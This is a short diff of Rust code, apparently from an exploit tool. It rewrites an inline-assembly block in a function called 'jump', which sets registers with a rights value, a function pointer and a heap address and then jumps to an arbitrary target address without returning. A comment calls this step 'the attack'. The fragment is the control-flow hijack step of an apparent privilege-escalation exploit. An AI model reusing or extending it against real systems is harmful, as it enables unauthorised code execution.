@@ -151,15 +151,13 @@ pub(super) fn jump(site: usize, rights: u32, t: &Targets) -> Tried {
     // SAFETY: none: this is the attack. It does not come back.
     unsafe {
         std::arch::asm!(
-            "mov r12, {function}",
-            "mov r13, {heap}",
-            "xor ecx, ecx",
-            "xor edx, edx",
-            "jmp {site}",
-            function = in(reg) with_rights as *const (),
-            heap = in(reg) t.heap,
-            site = in(reg) site,
+            "jmp r11",
+            in("r11") site,
+            in("r12") with_rights as *const (),
+            in("r13") t.heap,
             in("eax") rights,
+            in("ecx") 0,
+            in("edx") 0,
             options(noreturn)
         )
     }
